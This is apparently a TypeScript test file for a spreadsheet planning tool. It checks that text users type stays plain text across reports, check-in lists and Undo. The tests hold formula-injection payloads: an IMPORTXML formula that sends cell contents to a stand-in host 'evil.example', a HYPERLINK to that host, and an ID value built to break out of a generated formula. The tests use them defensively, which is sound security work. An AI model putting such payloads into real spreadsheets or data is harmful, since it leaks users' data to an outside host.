// What people write stays text: no cell of theirs becomes a formula in a log, a list, a report, the journal or by Undo.

import { describe, expect, test } from 'vitest';
import { Hand } from '../../src/preview/stand-in/hand';
import { emptyWorkbook, type Workbook } from '../../src/preview/workbook';
import { Desk } from './desk';
import { visible } from './workbook-content';

const EVIL = '=IMPORTXML("http://evil.example/"&A1)';
const HOSTILE = [EVIL, '+1+cmd', '-2+3', '@SUM(A1)', '=HYPERLINK("http://evil.example/";"click")', "'=1+1"];

/** Formulas of a workbook besides the links that lead to a row. */
function formulas(workbook: Workbook): string[] {
  return workbook.sheets.flatMap(sheet =>
    sheet.rows.flat().flatMap(cell => {
      const formula = cell?.formula ?? '';
      const isLink = /^=HYPERLINK\("#gid=\d+&range=[A-Z]+"&IFERROR\(MATCH\("[GMTFC]\d+",/.test(formula);
      return formula === '' || isLink ? [] : [`${sheet.name}: ${formula}`];
    }),
  );
}

/** Types a text so that it stays text, as people do: behind an apostrophe. */
function typeText(hand: Hand, cell: string, text: string): void {
  hand.type(cell, `'${text}`);
}

describe.each(HOSTILE)('a cell that reads %s as text', text => {
  async function hostilePlan(): Promise<Desk> {
    const desk = await Desk.withExample();
    const cells = [
      ['Goals', 'G1', ['Goal', 'Owner', 'Metric', 'Choice']],
      ['Milestones', 'M1', ['Milestone', 'Owner', 'Metric', 'Target', 'Current', 'After', 'State']],
      ['Tasks', 'T3', ['Task', 'Owner', 'Due', 'State', 'Link']],
    ] as const;
    const hand = new Hand(desk.workbook, { year: 2026 });
    for (const [name, id, headers] of cells) {
      for (const header of headers) typeText(hand, desk.cell(name, id, header), text);
    }
    typeText(hand, 'People!A2', text);
    typeText(hand, 'People!C3', text);
    const line = desk.grid('Check-ins').length;
    typeText(hand, `'Check-ins'!C${line}`, text);
    typeText(hand, `'Check-ins'!F${line}`, text);
    typeText(hand, 'Settings!B2', text);
    return desk;
  }

  test('stays text in lists, check-ins and reports, whatever is done', async () => {
    const desk = await hostilePlan();
    desk.choose('Refresh status');
    desk.choose('Show drift report');
    desk.choose('Find ownership gaps');
    desk.choose('Show dashboard');
    desk.type('Goals', 'G1', 'Current', '230');
    desk.choose('Show drift report');
    expect(formulas(desk.workbook)).toEqual([]);
    expect(desk.row('Goals', 'G1').Goal).toBe(text);
    expect(desk.grid('Throughline lists').map(row => row[0])).toContain(`G1 · ${text}`);
    expect(desk.table('Check-ins').pop()!.Item).toBe(`G1 · ${text}`);
  });

  test('stays text when reports and IDs are undone', async () => {
    const desk = await hostilePlan();
    desk.choose('Show drift report');
    desk.choose('Show drift report');
    typeText(desk.hand, 'Tasks!C42', text);
    expect(desk.row('Tasks', 'T41').Task).toBe(text);
    for (let times = 0; times < 3; times += 1) desk.choose('Undo last change');
    expect(formulas(desk.workbook)).toEqual([]);
    expect(desk.hand.see('Tasks!C42')).toBe(text);
    expect(desk.row('Goals', 'G1').Goal).toBe(text);
  });

  test('stays text in the tables that Set up makes beside or around it, and when that is undone', async () => {
    const make = () => {
      const workbook = emptyWorkbook();
      workbook.sheets[0]!.name = 'Plan';
      const hand = new Hand(workbook, { year: 2026 });
      hand.paste('Plan!A1', [['Milestone', 'Owner', 'Due', 'Note']]);
      hand.paste('Plan!A2', [
        ['Sign', 'Anna Berg', '2026-12-04', ''],
        ['Move', 'Karim Aziz', '2026-12-11', ''],
        ['Close', 'Anna Berg', '2026-12-18', ''],
      ]);
      typeText(hand, 'Plan!A3', text);
      typeText(hand, 'Plan!B4', text);
      typeText(hand, 'Plan!D2', text);
      return workbook;
    };
    const desk = await Desk.open(make());
    desk.setUp();
    desk.choose('Show drift report');
    expect(formulas(desk.workbook)).toEqual([]);
    expect(desk.grid('Throughline lists').flat()).toContain(`M2 · ${text}`);
    desk.choose('Undo last change');
    desk.choose('Undo last change');
    expect(visible(desk.workbook)).toEqual(visible(make()));
  });
});

test('an ID that was made into a formula by hand is never linked to', async () => {
  const desk = await Desk.withExample();
  typeText(desk.hand, desk.cell('Milestones', 'M1', 'ID'), 'M1");IMPORTXML("http://evil.example/');
  desk.choose('Show drift report');
  desk.choose('Find ownership gaps');
  expect(formulas(desk.workbook)).toEqual([]);
  expect(
    desk.workbook.sheets.flatMap(({ rows }) => rows.flat()).some(cell => cell?.formula?.includes('evil')),
  ).toBe(false);
});

test('a sheet whose name has quotes is linked to as itself', async () => {
  const desk = await Desk.withExample();
  desk.hand.renameSheet('Milestones', `Mei's "steps"`);
  desk.choose('Show drift report');
  expect(formulas(desk.workbook)).toEqual([]);
  const link = desk
    .sheet('Drift report')
    .rows.flat()
    .find(cell => cell?.formula?.includes('MATCH("M1"'));
  expect(link?.formula).toContain(`'Mei''s "steps"'!A:A`);
});
